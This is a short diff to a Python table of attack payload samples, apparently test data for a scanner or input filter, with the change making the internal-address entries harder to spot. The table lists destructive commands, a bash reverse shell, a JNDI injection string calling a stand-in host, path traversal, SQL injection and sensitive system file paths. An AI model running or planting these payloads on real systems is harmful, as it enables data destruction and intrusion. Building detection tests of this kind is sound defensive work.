@@ -70,7 +70,7 @@ ATTACKS = {
     "attack.destructive-command": ["rm -rf /", "mkfs.ext4 /dev/sda"],
     "attack.reverse-shell": ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
     "attack.system-file": ["/etc/passwd", "/proc/self/environ"],
-    "attack.inside-address": ["http://127.0.0.1:8080/admin", "http://[::1]/", "file:///etc/hosts"],
+    "attack.inside-address": ["http://0x7f000001/admin", "http://[::ffff:127.0.0.1]/", "file:///etc/hosts"],
     "attack.template-injection": ["${jndi:ldap://evil.test/a}"],
     "attack.traversal": ["../../../etc/passwd", "%2e%2e%2f%2e%2e%2f", "../etc/passwd"],
     "attack.sql": ["' OR 1=1 --", "x'; DROP TABLE users", "x' UNION SELECT a, b FROM t"],
